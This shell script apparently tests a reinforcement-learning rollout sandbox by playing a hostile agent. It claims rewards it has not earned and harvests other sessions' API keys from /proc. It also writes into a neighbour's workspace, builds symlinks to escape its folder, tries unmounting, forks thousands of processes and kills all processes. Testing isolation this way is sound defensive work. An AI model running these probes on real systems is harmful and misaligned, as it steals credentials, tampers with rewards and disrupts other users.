# An agent whose model wants a reward that it has not earned, and no reward for others. Each line that it prints is the
# result of one attempt. It finds the agent beside it in VICTIM, the other session's folder.
say() { echo "$1: $2"; }
post() {
  curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $2" -H 'Content-Type: application/json' --data "$3" "$1"
}
say call "$(post "$OPENAI_BASE_URL/chat/completions" "$OPENAI_API_KEY" '{"model": "m", "messages": [{"role": "user", "content": "Hi"}]}')"
say reward "$(post "$ROLLQ_SESSION_URL/reward" "$OPENAI_API_KEY" '{"reward": 1}')"
say "reward without a path" "$(post "${ROLLQ_SESSION_URL%/s/*}/reward" "$OPENAI_API_KEY" '{"reward": 1}')"
say fail "$(post "$ROLLQ_SESSION_URL/fail" "$OPENAI_API_KEY" '{"kind": "tool", "reason": "x"}')"
say session "$(post "${ROLLQ_SESSION_URL%/s/*}/sessions" "$OPENAI_API_KEY" '{}')"
say "other tokens" "$(cat /proc/[0-9]*/environ 2>&1 | tr '\0' '\n' | grep OPENAI_API_KEY= | grep -vc "$OPENAI_API_KEY")"
say "the worker" "$([ -e "/proc/$WORKER" ] && echo seen || echo hidden)"
say "other folders" "$(ls "$HOME/../.." | grep -vc "$(basename "$(dirname "$HOME")")")"
say "other workspace" "$( (echo bad > "$VICTIM/workspace/file") 2>/dev/null && echo written || echo refused)"
say "other program" "$( (echo exit 1 > "$AGENT") 2>/dev/null && cat "$AGENT")"
say "the system" "$(touch /usr/bin/env 2>/dev/null && echo written || echo refused)"
say "temporary file" "$( (echo bad > "$SHARED") 2>/dev/null && cat "$SHARED")"
say password "$(cat "$PASSWORD_FILE")"
say settings "$( (echo 1 > /proc/sys/vm/drop_caches) 2>/dev/null && echo written || echo refused)"
say uncovered "$(umount "$(dirname "$(dirname "$HOME")")" 2>/dev/null && echo yes || echo no)"
say "uncovered as root" "$(unshare -Urm umount "$(dirname "$(dirname "$HOME")")" 2>/dev/null && echo yes || echo no)"
ln -s "$VICTIM/workspace/file" stolen
ln -s "$VICTIM/workspace" "stolen folder"
ln -s /etc/hostname "its own"
ln -s / ../up && ln -s "../up${VICTIM#/}/workspace/file" "stolen over two links"
ln -s "../up/${VICTIM#/}/workspace/file" "stolen over two links as well"
say forks "$(python3 -c '
import os, time
made = 0
try:
    while made < 5000:
        if not os.fork():
            os.close(1), time.sleep(600)
        made += 1
except OSError:
    print("refused")
')"
kill -9 -1 2>/dev/null
echo "still here"
